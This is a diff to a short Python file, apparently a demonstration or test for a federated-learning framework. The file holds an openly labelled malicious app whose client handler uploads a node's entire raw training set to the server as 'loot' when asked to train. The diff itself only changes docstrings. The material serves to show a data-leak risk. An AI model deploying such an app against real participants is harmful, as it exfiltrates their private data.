@@ -1,4 +1,4 @@
-"""What a server that does not follow the program could send: a client that gives away a site's records."""
+"""A malicious app that a server could send: its client uploads a site's records."""
 
 import json
 import time
@@ -15,14 +15,14 @@ server = ServerApp()
 
 @client.train()
 def give(message, context):
-    """All records as they are."""
+    """Upload all records."""
     records = np.load(str(context.node_config["data"]).removeprefix("npz:"))["x_train"]
     return Message(content=RecordDict({"loot": ArrayRecord({"x": Array(records)})}), reply_to=message)
 
 
 @server.main()
 def ask(grid, context):
-    """Asks a node, and writes down what came."""
+    """Ask a node to train, and write down its reply."""
     while not (nodes := list(grid.get_node_ids())):
         time.sleep(1)
     asked = Message(content=RecordDict(), message_type="train", dst_node_id=nodes[0], group_id="1")
